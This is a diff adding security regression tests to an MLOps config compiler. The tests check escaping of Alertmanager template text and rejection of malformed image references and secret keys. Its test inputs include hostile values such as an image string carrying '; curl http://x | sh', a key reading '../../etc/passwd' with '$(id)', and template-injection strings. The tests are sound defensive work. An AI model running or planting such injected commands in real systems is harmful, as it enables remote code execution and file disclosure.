@@ -3,16 +3,30 @@
 M9: validate wrote raw ESC/OSC sequences taken from document keys to stderr, so a document could
 retitle or clear the reader's terminal. Every diagnostic now shows control characters and
 directional overrides as escapes.
+
+M10: a Slack ``channel`` and an email address went unescaped into Alertmanager template fields
+(``{{ .Unclosed`` passed validate). A Slack channel is now checked as one, and the compiler writes
+user text so that Alertmanager's template engine (``amtool template render``, and a real
+Alertmanager sending to a Slack stand-in) renders it literally.
+
+M13: ``image`` with whitespace or ``;`` and a secret-reference ``key`` with arbitrary text reached
+SageMaker, pods, AlertmanagerConfig and the forwarder's environment. Images are parsed as image
+references; keys follow the Kubernetes Secret key rule.
 """
 
 from __future__ import annotations
 
+import json
+import subprocess
 from pathlib import Path
 
 import pytest
 
+from mlops_infra.compile.kubernetes import routing
+from mlops_infra.spec.base import SecretRef
 from tests.support.cli import run_cli, run_cli_subprocess
-from tests.support.text_edits import edit
+from tests.support.prometheus import PrometheusStack, binary, http, require
+from tests.support.text_edits import edit, line_of
 
 ROOT = Path(__file__).resolve().parents[2]
 REFERENCE = (ROOT / "examples" / "fraud-detection" / "mlsystem.yaml").read_text()
@@ -47,3 +61,138 @@ def test_m9_an_environment_name_with_an_escape_sequence_is_escaped() -> None:
     result = run_cli("plan", str(ROOT / "examples" / "fraud-detection" / "mlsystem.yaml"), "--env", "\x1b[2Jprod")
     assert result.code == 1
     assert "\x1b" not in result.output and "\\x1b[2Jprod" in result.stderr
+
+
+# --- M10: user text in Alertmanager template fields -------------------------------------------------
+
+HOSTILE_TEMPLATES = ['#ml-{{ .Unclosed', '#ml-{{ template "__alertmanager" . }}', "{{{{ x }}}} }} {{", "plain"]
+
+
+def _amtool_render(tmp_path: Path, text: str) -> subprocess.CompletedProcess:
+    """``text`` rendered by Alertmanager's own template engine (``amtool template render``)."""
+    glob = tmp_path / "none.tmpl"
+    glob.write_text("")
+    return subprocess.run([binary("amtool"), "template", "render", f"--template.glob={glob}", f"--template.text={text}"],
+                          capture_output=True, text=True, timeout=60, check=False)
+
+
+@pytest.mark.parametrize("text", HOSTILE_TEMPLATES)
+def test_m10_escaped_text_renders_literally_in_alertmanagers_template_engine(tmp_path: Path, text: str) -> None:
+    require("amtool")
+    rendered = _amtool_render(tmp_path, routing.template_text(text))
+    assert (rendered.returncode, rendered.stdout) == (0, text), rendered.stderr
+    if "{{" in text:  # unescaped, the same text is run as a template
+        raw = _amtool_render(tmp_path, text)
+        assert raw.returncode != 0 or raw.stdout != text
+
+
+def test_m10_a_template_in_an_email_address_reaches_alertmanager_as_literal_text(tmp_path: Path) -> None:
+    require("amtool")
+    address = "ml{{.CommonLabels.severity}}@example.com"
+    spec = _write(tmp_path, edit(edit(REFERENCE, "    address: ml-team@example.com", f'    address: "{address}"'),
+                                 "    webhook_url: {secret: slack-oncall-webhook}",
+                                 "    webhook_url: {secret: slack-oncall-webhook}\n    channel: \"#ml-oncall\""))
+    result = run_cli("graph", spec, "--env", "dev", "--format", "json")
+    assert result.code == 0, result.output[-2000:]
+    fields = sorted(c.get("to") or c["channel"] for r in json.loads(result.stdout)["resources"]
+                    if r["type"].endswith(":AlertmanagerConfig") for recv in r["inputs"]["spec"]["receivers"]
+                    for c in recv.get("emailConfigs", []) + recv.get("slackConfigs", []) if "to" in c or "channel" in c)
+    rendered = [_amtool_render(tmp_path, text) for text in fields]
+    assert [(r.returncode, r.stdout) for r in rendered] == [(0, "#ml-oncall"), (0, address)]
+
+
+@pytest.mark.parametrize("channel", ['"#ml-{{ .Unclosed"', '"#ml {{ template \\"__alertmanager\\" . }}"', '"a b"',
+                                     '"#ml\\"}, \\"x\\": {\\"y\\": \\"z"', f'"#{"x" * 81}"'])
+def test_m10_a_slack_channel_that_is_not_one_is_an_error_at_the_channel(tmp_path: Path, channel: str) -> None:
+    text = edit(REFERENCE, "    webhook_url: {secret: slack-oncall-webhook}",
+                f"    webhook_url: {{secret: slack-oncall-webhook}}\n    channel: {channel}")
+    spec = _write(tmp_path, text)
+    result = run_cli_subprocess("validate", spec)
+    assert result.code == 1 and "Traceback" not in result.output
+    line = line_of(text, "    channel: ")
+    assert f"{spec}:{line}:14: error: Invalid channel" in result.stderr
+    assert 'A Slack channel is "#name"' in result.stderr
+
+
+def test_m10_a_slack_channel_template_is_sent_literally_by_a_real_alertmanager(tmp_path: Path) -> None:
+    """The ``channel`` field is a template on the real server: escaped text arrives as written."""
+    require()
+    hostile = '#ml-{{ template "__alertmanager" . }}-{{ .Unclosed'
+    receiver = routing.Receiver("oncall", "slack", url_secret=SecretRef(secret="hook"),
+                                channel=routing.template_text(hostile))
+    route = routing.Route("channel-oncall", "channels.oncall", receiver, ("Hostile",), ())
+    with PrometheusStack(tmp_path) as stack:
+        config = routing.alertmanager_config([route], "ns", resolve_secret=lambda ref: stack.receiver.url("/slack"),
+                                             timing={"group_wait": "0s", "group_interval": "1s"})
+        stack.set_alertmanager_config(config)
+        alert = [{"labels": {"alertname": "Hostile", "namespace": "ns"}}]
+        status, body = http("POST", stack.alertmanager_url + "/api/v2/alerts", json.dumps(alert))
+        assert status == 200, body
+        sent = stack.receiver.wait_for(path="/slack", timeout=30)
+    assert sent[0].json()["channel"] == hostile
+
+
+# --- M13: image references and secret-reference keys -------------------------------------------------
+
+IMAGE = "image: 123456789012.dkr.ecr.us-east-1.amazonaws.com/fraud-train:1.4.2"
+
+
+@pytest.mark.parametrize(("image", "problem"), [
+    ('"a b;c"', "it holds whitespace or a control character"),
+    ('"evil.io/img:1; curl http://x | sh\\n"', "it holds whitespace or a control character"),
+    ('"user:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY@registry.example.com/x:1"',
+     "it holds an '@' that does not start a digest (sha256:<64 hex digits>); credentials such as user:password@"),
+    ("registry.example.com/Fraud-Train:1", "its repository path has capital letters; repository paths are lowercase"),
+    ('"registry.example.com/x:"', "it does not follow the image reference grammar"),
+    ('"registry.example.com/x@sha256:abc"', "it holds an '@' that does not start a digest"),
+    (f"registry.example.com/{'a' * 250}:1", "it is 273 characters; SageMaker takes image references of at most 255"),
+])
+def test_m13_an_image_that_is_not_an_image_reference_is_an_error_at_the_image(
+        tmp_path: Path, image: str, problem: str) -> None:
+    text = edit(REFERENCE, IMAGE, f"image: {image}")
+    spec = _write(tmp_path, text)
+    result = run_cli_subprocess("validate", spec)
+    assert result.code == 1 and "Traceback" not in result.output
+    assert f'{spec}:{line_of(text, "image: " + image)}:12: error: Invalid "image"' in result.stderr
+    assert f"Not an image reference: {problem}" in result.stderr
+    assert "Write [registry[:port]/]repository[:tag][@digest]" in result.stderr
+    assert "wJalrXUtnFEMI" not in result.stderr.split("|")[0]  # the summary and detail never quote it
+
+
+@pytest.mark.parametrize("image", ["python:3.12-slim", "localhost:5000/team/train:1", "ghcr.io/org/train@sha256:" + "a" * 64,
+                                   "123456789012.dkr.ecr.us-east-1.amazonaws.com/fraud/train:1.4.2-cu121"])
+def test_m13_real_image_references_are_accepted_on_kubernetes(tmp_path: Path, image: str) -> None:
+    spec = _write(tmp_path, edit(REFERENCE, IMAGE, f"image: {image}"))
+    result = run_cli("validate", spec, "--env", "dev")
+    assert result.code == 0, result.stderr
+
+
+@pytest.mark.parametrize(("key", "problem"), [
+    ('"../../etc/passwd\\"\'$(id)\\n"', "may hold only letters, digits, '-', '_' and '.'"),
+    ('".."', "may not be '.' or '..' nor start with '..'"),
+    ('"..data"', "may not be '.' or '..' nor start with '..'"),
+    ('""', "is empty"),
+    (f'"{"k" * 254}"', "is 254 characters, over 253"),
+])
+def test_m13_a_secret_reference_key_that_names_no_secret_key_is_an_error_at_the_key(
+        tmp_path: Path, key: str, problem: str) -> None:
+    old = "webhook_url: {secret: slack-oncall-webhook}"
+    text = edit(REFERENCE, old, f"webhook_url: {{secret: slack-oncall-webhook, key: {key}}}")
+    spec = _write(tmp_path, text)
+    result = run_cli_subprocess("validate", spec)
+    assert result.code == 1 and "Traceback" not in result.output
+    line = line_of(text, "key: " + key)
+    assert f'{spec}:{line}:' in result.stderr and 'error: Invalid "key"' in result.stderr
+    assert f"A secret key {problem}" in result.stderr
+    assert "use a name such as value, webhook-url or routing_key" in result.stderr
+
+
+def test_m13_a_valid_secret_key_reaches_the_alertmanager_config_and_the_forwarder(tmp_path: Path) -> None:
+    spec = _write(tmp_path, edit(REFERENCE, "webhook_url: {secret: slack-oncall-webhook}",
+                                 "webhook_url: {secret: slack-oncall-webhook, key: slack.webhook_url-1}"))
+    assert run_cli("validate", spec).code == 0
+    dev = run_cli("graph", spec, "--env", "dev", "--format", "json")
+    prod = run_cli("graph", spec, "--env", "prod", "--format", "json")
+    assert dev.code == prod.code == 0
+    assert '"key": "slack.webhook_url-1"' in dev.stdout
+    assert '"SECRET_KEY": "slack.webhook_url-1"' in prod.stdout
